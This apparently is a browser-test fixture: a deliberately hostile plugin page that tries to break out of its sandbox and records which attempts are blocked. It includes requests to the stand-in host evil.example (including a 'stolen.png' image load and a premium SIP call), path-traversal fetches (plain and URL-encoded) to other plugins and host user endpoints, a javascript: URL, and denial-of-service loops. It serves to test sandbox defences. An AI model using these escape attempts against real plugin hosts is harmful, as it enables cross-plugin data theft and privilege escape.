// Tries to get out of the sandbox and writes down what each attempt came to: the browser tests read it.
import { connect } from "/plugin-ui/kit/1/bridge.js";

const bridge = await connect();
const list = document.getElementById("found");

/** Notes what an attempt came to: `free` when it worked. */
async function attempt(name, act) {
  let outcome;
  try {
    outcome = (await act()) ? "free" : "blocked";
  } catch {
    outcome = "blocked";
  }
  const term = document.createElement("dt");
  term.textContent = name;
  const found = document.createElement("dd");
  found.id = name;
  found.textContent = outcome;
  list.append(term, found);
}

/** Whether one of these events comes first rather than the other or none. */
const event = (target, good, bad) =>
  new Promise((decided) => {
    target.addEventListener(good, () => decided(true));
    target.addEventListener(bad, () => decided(false));
    setTimeout(() => decided(false), 1500);
  });

await attempt("cookie", () => document.cookie !== undefined);
await attempt("storage", () => localStorage);
await attempt("database", () => event(indexedDB.open("x"), "success", "error"));
await attempt("parent", () => parent.document);
await attempt("top", () => {
  top.location.href = "https://evil.example/";
  return false;
});
await attempt("popup", () => window.open("/calls"));
await attempt("fetch", () => fetch("/api/v1/session"));
await attempt("fetch-away", () =>
  fetch("https://evil.example/", { mode: "no-cors" }),
);
await attempt("beacon", async () => {
  // It says yes before the policy says no, so what counts is whether the policy has spoken.
  const spoken = event(document, "never", "securitypolicyviolation");
  return navigator.sendBeacon("/api/v1/session") && spoken;
});
await attempt("xhr", () => {
  const request = new XMLHttpRequest();
  request.open("GET", "/api/v1/session");
  const answered = event(request, "load", "error");
  request.send();
  return answered;
});
await attempt("websocket", () =>
  event(new WebSocket(`ws://${location.host}/api/v1/events`), "open", "error"),
);
await attempt("events", () =>
  event(new EventSource("/api/v1/session"), "open", "error"),
);
// With the session's cookie this would be somebody else's answer; without it there is none.
await attempt("image-of-others", () => {
  const image = new Image();
  const loaded = event(image, "load", "error");
  image.src = "/api/v1/plugins/org.example.hello-page/web/greeting";
  return loaded;
});
await attempt("image-away", () => {
  const image = new Image();
  const loaded = event(image, "load", "error");
  image.src = "https://evil.example/stolen.png";
  return loaded;
});
await attempt("frame", () => {
  const frame = document.createElement("iframe");
  frame.src = "/login";
  document.body.append(frame);
  const spoken = event(document, "never", "securitypolicyviolation");
  return spoken.then((free) => (frame.remove(), free));
});
await attempt("eval", () => eval("1"));
await attempt(
  "blob-script",
  () =>
    import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
);
await attempt("worker", () => {
  const worker = new Worker(
    URL.createObjectURL(
      new Blob(["postMessage(1)"], { type: "text/javascript" }),
    ),
  );
  return event(worker, "message", "error");
});
await attempt("service-worker", () =>
  navigator.serviceWorker.register("bad.js"),
);
await attempt("camera", () =>
  navigator.mediaDevices.getUserMedia({ video: true }),
);
await attempt("alert", () => (alert("hello"), false));
await attempt("other-plugin", () =>
  bridge.fetch("/../../org.example.hello-page/web/greeting"),
);
await attempt("other-plugin-encoded", () =>
  bridge.fetch("/%2e%2e/%2e%2e/org.example.hello-page/web/greeting"),
);
await attempt("host-api", () => bridge.fetch("/../../../users"));
await attempt("trace", () => bridge.fetch("/", { method: "TRACE" }));
await attempt("elsewhere", () =>
  bridge.navigate({ page: "../../admin/users" }),
);
await attempt("script-url", () => bridge.navigate("javascript:alert(1)"));
await attempt("premium-number", () => bridge.call("sip:0900@evil.example"));
await attempt(
  "own-route",
  async () => !(await (await bridge.fetch("/")).text()).includes("still there"),
);

document.getElementById("flood").addEventListener("click", () => {
  setInterval(() => {
    for (let n = 0; n < 200; n++) bridge.title(`Flood ${n}`);
  });
});
document
  .getElementById("leave")
  .addEventListener("click", () => (location.href = "/calls"));
document
  .getElementById("send")
  .addEventListener("click", () => document.forms[0].submit());
document.getElementById("spin").addEventListener("click", () => {
  for (;;);
});
document.documentElement.dataset.done = "yes";
